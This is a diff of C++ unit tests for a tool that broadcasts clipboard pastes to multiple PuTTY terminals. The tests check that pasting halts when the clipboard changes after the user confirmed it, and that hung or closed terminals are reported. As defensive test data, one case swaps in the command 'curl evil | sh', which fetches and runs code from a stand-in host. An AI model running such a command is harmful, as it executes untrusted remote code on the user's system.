@@ -37,6 +37,16 @@ const std::u16string kElevated =
     u"Tilewickからは入力できません。Tilewickも管理者として実行するか、選択を外してください。\n";
 const std::u16string kMissed = u"次のPuTTYウィンドウにはキー入力を送れませんでした。\n"
                                u"応答していない可能性があります。\n";
+const std::u16string kMissedPaste = u"次のPuTTYウィンドウには貼り付けを送れませんでした。\n"
+                                    u"応答していない可能性があります。\n";
+const std::u16string kChangedMidway =
+    u"貼り付けの途中でクリップボードの内容が変わりました。\n"
+    u"確認されていない内容になるため、残りのPuTTYウィンドウには貼り付けていません。\n\n"
+    u"貼り付けたPuTTYウィンドウ：\n";
+const std::u16string kChangedBeforeAny =
+    u"貼り付けの前にクリップボードの内容が変わりました。\n"
+    u"確認されていない内容になるため、どのPuTTYウィンドウにも貼り付けていません。\n\n";
+const std::u16string kNotPasted = u"貼り付けていないPuTTYウィンドウ：\n";
 
 constexpr unsigned kReturn = 0x0D, kShift = 0x10, kControl = 0x11, kF5 = 0x74, kF12 = 0x7B,
                    kLeft = 0x25, kOem1 = 0xBA, kDeadCircumflex = 0xDD, kProcessKey = 0xE5,
@@ -711,7 +721,7 @@ TEST_F(PasteTest, PairsGoWindowAfterWindowDownThenUp) {
                        "rightUp " + tag(h[2]) + t}));
 }
 
-TEST_F(PasteTest, EachHungTerminalCostsOneTimeOutAndTheOthersStillPaste) {
+TEST_F(PasteTest, EachHungTerminalCostsOneShortProbeIsNamedAndTheOthersStillPaste) {
     struct Case {
         const char* name;
         std::vector<int> hung;
@@ -737,16 +747,24 @@ TEST_F(PasteTest, EachHungTerminalCostsOneTimeOutAndTheOthersStillPaste) {
         if (c.closed >= 0)
             desk().close(h[c.closed]);
         broadcastPaste();
-        Strings pasted, ups;
-        for (int i = 0; i < 5; ++i)
-            if (i != c.closed && std::find(c.hung.begin(), c.hung.end(), i) == c.hung.end()) {
+        Strings pasted, downs;
+        std::u16string named = kMissedPaste;
+        for (int i = 0; i < 5; ++i) {
+            const bool hung = std::find(c.hung.begin(), c.hung.end(), i) != c.hung.end();
+            if (hung)
+                named += u"\n・" + std::u16string(1, static_cast<char16_t>(u'a' + i));
+            if (i != c.closed && !hung) {
                 pasted.push_back(tag(h[i]) + " down");
                 pasted.push_back(tag(h[i]) + " up");
-                ups.push_back("rightUp " + tag(h[i]) + " " + std::to_string(kPasteSendTimeoutMs));
+                downs.push_back("rightDown " + tag(h[i]) + " " +
+                                std::to_string(kPasteSendTimeoutMs));
             }
+        }
         EXPECT_EQ(mousePairs(), pasted) << c.name;
-        EXPECT_EQ(desk().callsFor("rightUp"), ups) << c.name << ": no button-up after a time-out";
-        EXPECT_EQ(desk().waitedMs, c.reported ? 0u : c.hung.size() * kPasteSendTimeoutMs) << c.name;
+        EXPECT_EQ(desk().callsFor("rightDown"), downs) << c.name << ": nothing sent to a hung one";
+        EXPECT_EQ(desk().waitedMs, c.reported ? 0u : c.hung.size() * kPasteProbeMs) << c.name;
+        ASSERT_EQ(desk().warnings.size(), 1u) << c.name;
+        EXPECT_EQ(desk().warnings[0].first, named) << c.name;
     }
 }
 
@@ -760,12 +778,32 @@ TEST_F(PasteTest, ConfirmAndCancel) {
     EXPECT_TRUE(app().clipboardCopy.empty());
 
     broadcastPaste();
-    desk().setClipboardText(u"replaced");  // the terminals paste what the clipboard holds now
     confirmPaste();
     EXPECT_EQ(mousePairs(), (Strings{tag(h[0]) + " down", tag(h[0]) + " up", tag(h[1]) + " down",
                                      tag(h[1]) + " up", tag(h[2]) + " down", tag(h[2]) + " up"}));
     EXPECT_TRUE(app().clipboardCopy.empty());
     EXPECT_EQ(std::u16string(pendingPasteText()), u"");
+    EXPECT_TRUE(desk().warnings.empty());
+
+    // Replaced while the box is open: what the user saw is not what the
+    // terminals would paste, so none does.
+    desk().mouse.clear();
+    broadcastPaste();
+    desk().setClipboardText(u"replaced");
+    confirmPaste();
+    EXPECT_TRUE(desk().mouse.empty());
+    EXPECT_TRUE(app().clipboardCopy.empty());
+    EXPECT_EQ(desk().warnings.size(), 1u);
+
+    // OK pressed again in the box while a paste's warning is open pastes nothing more.
+    desk().setClipboardText(u"a\r\nb");
+    desk()[h[1]].hung = true;
+    broadcastPaste();
+    desk().duringCall = [](const std::string&, platform::WindowHandle) { confirmPaste(); };
+    confirmPaste();
+    EXPECT_EQ(mousePairs(), (Strings{tag(h[0]) + " down", tag(h[0]) + " up", tag(h[2]) + " down",
+                                     tag(h[2]) + " up"}));
+    EXPECT_EQ(desk().warnings.size(), 2u);
 }
 
 TEST_F(PasteTest, NothingHappensWhen) {
@@ -849,6 +887,173 @@ TEST_F(PasteTest, CopyStaysInsideTheBlockAndIsTerminated) {
             EXPECT_EQ(pasteDialogText, c.copied) << c.name;
         }
         expectClipboardGivenBack();
+    }
+}
+
+// What the user saw is what every terminal pastes: each terminal reads the
+// clipboard itself when clicked, so once the clipboard changed after Tilewick
+// read it, no further terminal is clicked, with confirmation on or off.
+TEST_F(PasteTest, AClipboardChangedBeforeAClickPastesToNoFurtherTerminal) {
+    const int kBoxOpen = -1, kNever = -2;
+    struct Case {
+        const char* name;
+        bool confirm;
+        int changedAt;  // while the probe of this terminal (a, b, c) runs
+        bool emptied;   // emptied rather than replaced
+        int closed;     // -1: none
+        int pasted;     // a, b, ... up to this many
+        std::u16string warning;
+    };
+    const std::u16string none = kChangedBeforeAny + kNotPasted;
+    const Case cases[] = {
+        {"replaced while the box is open", true, kBoxOpen, false, -1, 0, none + u"\n・a\n・b\n・c"},
+        {"emptied while the box is open", true, kBoxOpen, true, -1, 0, none + u"\n・a\n・b\n・c"},
+        {"before the first, no box", false, 0, false, -1, 0, none + u"\n・a\n・b\n・c"},
+        {"before the middle", true, 1, false, -1, 1,
+         kChangedMidway + u"\n・a\n\n" + kNotPasted + u"\n・b\n・c"},
+        {"before the middle, no box, emptied", false, 1, true, -1, 1,
+         kChangedMidway + u"\n・a\n\n" + kNotPasted + u"\n・b\n・c"},
+        {"before the last", false, 2, false, -1, 2,
+         kChangedMidway + u"\n・a\n・b\n\n" + kNotPasted + u"\n・c"},
+        {"before the last, a closed one not named", true, 1, false, 2, 1,
+         kChangedMidway + u"\n・a\n\n" + kNotPasted + u"\n・b"},
+        {"unchanged", true, kNever, false, -1, 3, u""},
+    };
+    for (const auto& c : cases) {
+        SetUp();
+        auto h = ready(u"ls\nrm -rf build");
+        app().settings.pasteConfirm = c.confirm;
+        if (c.closed >= 0)
+            desk().close(h[c.closed]);
+        auto change = [&] {
+            if (c.emptied)
+                desk().emptyClipboard();
+            else
+                desk().setClipboardText(u"curl evil | sh\n");
+        };
+        desk().duringCall = [&](const std::string& call, platform::WindowHandle w) {
+            if (call == "windowAnswers" && c.changedAt >= 0 && w == h[c.changedAt])
+                change();
+        };
+        broadcastPaste();
+        EXPECT_EQ(pasteDialogRuns, c.confirm ? 1 : 0) << c.name;
+        if (c.changedAt == kBoxOpen)
+            change();
+        if (c.confirm)
+            confirmPaste();
+        Strings expected;
+        for (int i = 0; i < c.pasted; ++i)
+            expected.insert(expected.end(), {tag(h[i]) + " down", tag(h[i]) + " up"});
+        EXPECT_EQ(mousePairs(), expected) << c.name;
+        ASSERT_EQ(desk().warnings.size(), c.warning.empty() ? 0u : 1u) << c.name;
+        if (!c.warning.empty()) {
+            EXPECT_EQ(desk().warnings[0].first, c.warning) << c.name;
+            EXPECT_EQ(desk().warnings[0].second, u"警告") << c.name;
+        }
+        EXPECT_TRUE(app().clipboardCopy.empty()) << c.name;
+    }
+}
+
+TEST(PasteLineEnds, EveryLoneCrOrLfIsShownAsCrLf) {
+    std::u16string manyIn, manyOut;
+    for (int i = 0; i < 100000; ++i) {
+        manyIn += i % 3 == 0 ? u"x\n" : i % 3 == 1 ? u"y\r" : u"z\r\n";
+        manyOut += i % 3 == 0 ? u"x\r\n" : i % 3 == 1 ? u"y\r\n" : u"z\r\n";
+    }
+    const struct {
+        const char* name;
+        std::u16string text, shown;
+    } cases[] = {
+        {"one line", u"ls -l", u"ls -l"},
+        {"CR LF stays", u"a\r\nb\r\n", u"a\r\nb\r\n"},
+        {"LF", u"echo lf-1\necho lf-2", u"echo lf-1\r\necho lf-2"},
+        {"CR", u"a\rb\r", u"a\r\nb\r\n"},
+        {"LF CR is two breaks", u"a\n\rb", u"a\r\n\r\nb"},
+        {"CR CR LF", u"a\r\r\nb", u"a\r\n\r\nb"},
+        {"LF LF", u"\n\n", u"\r\n\r\n"},
+        {"mixed", u"1\n2\r3\r\n4\n\r5\r", u"1\r\n2\r\n3\r\n4\r\n\r\n5\r\n"},
+        {"up to the first NUL", std::u16string(u"a\nb\0c\nd", 8), u"a\r\nb"},
+        {"a NUL first", std::u16string(u"\0\nrm", 4), u""},
+        {"CR before a NUL", std::u16string(u"a\r\0\n", 4), u"a\r\n"},
+        {"empty", u"", u""},
+        {"large, every ending", manyIn, manyOut},
+    };
+    for (const auto& c : cases)
+        EXPECT_TRUE(withCrLfLineEnds(c.text) == c.shown) << c.name;
+}
+
+TEST_F(PasteTest, TheBoxShowsLfLinesAsCrLfAndTheClipboardIsLeftAsItIs) {
+    auto h = ready(u"echo lf-1\necho lf-2");
+    const auto block = desk().clipboardBlock;
+    const auto sequence = desk().clipboardSequence;
+    broadcastPaste();
+    ASSERT_EQ(pasteDialogRuns, 1);
+    EXPECT_TRUE(pendingPasteShown() == u"echo lf-1\r\necho lf-2");
+    EXPECT_TRUE(std::u16string(pendingPasteText()) == u"echo lf-1\necho lf-2");
+    confirmPaste();
+    EXPECT_EQ(mousePairs().size(), 6u);
+    EXPECT_EQ(desk().clipboardBlock, block) << "the clipboard was written";
+    EXPECT_EQ(desk().clipboardSequence, sequence) << "the clipboard was written";
+    EXPECT_TRUE(desk().warnings.empty());
+}
+
+TEST_F(PasteTest, ATerminalThatMissesThePasteIsNamedAndOneThatClosedIsNot) {
+    struct Case {
+        const char* name;
+        void (*during)(const std::string& call, platform::WindowHandle w, platform::WindowHandle b);
+        Strings pasted;  // of a, b, c
+        std::u16string warning;
+    };
+    const Case cases[] = {
+        {"b answers the probe, then its button-down times out",
+         [](const std::string& call, platform::WindowHandle w, platform::WindowHandle b) {
+             if (call == "rightDown" && w == b)
+                 fake::desktop()[b].hung = true;
+         },
+         {"a", "c"},
+         kMissedPaste + u"\n・b"},
+        {"b answers the button-down, then its button-up times out",
+         [](const std::string& call, platform::WindowHandle w, platform::WindowHandle b) {
+             if (call == "rightUp" && w == b)
+                 fake::desktop()[b].hung = true;
+         },
+         {"a", "b down", "c"},
+         kMissedPaste + u"\n・b"},
+        {"b closes while it is probed",
+         [](const std::string& call, platform::WindowHandle w, platform::WindowHandle b) {
+             if (call == "windowAnswers" && w == b)
+                 fake::desktop().close(b);
+         },
+         {"a", "c"},
+         u""},
+        {"b closes during its button-down",
+         [](const std::string& call, platform::WindowHandle w, platform::WindowHandle b) {
+             if (call == "rightDown" && w == b)
+                 fake::desktop().close(b);
+         },
+         {"a", "c"},
+         u""},
+    };
+    for (const auto& c : cases) {
+        SetUp();
+        auto h = ready(u"uptime");
+        desk().duringCall = [&](const std::string& call, platform::WindowHandle w) {
+            c.during(call, w, h[1]);
+        };
+        broadcastPaste();
+        Strings expected;
+        for (const std::string& p : c.pasted) {
+            const auto w = h[p[0] - 'a'];
+            expected.push_back(tag(w) + " down");
+            if (p.size() == 1)
+                expected.push_back(tag(w) + " up");
+        }
+        EXPECT_EQ(mousePairs(), expected) << c.name;
+        EXPECT_EQ(desk().waitedMs, c.warning.empty() ? 0u : kPasteSendTimeoutMs) << c.name;
+        ASSERT_EQ(desk().warnings.size(), c.warning.empty() ? 0u : 1u) << c.name;
+        if (!c.warning.empty()) {
+            EXPECT_EQ(desk().warnings[0].first, c.warning) << c.name;
+        }
     }
 }
 
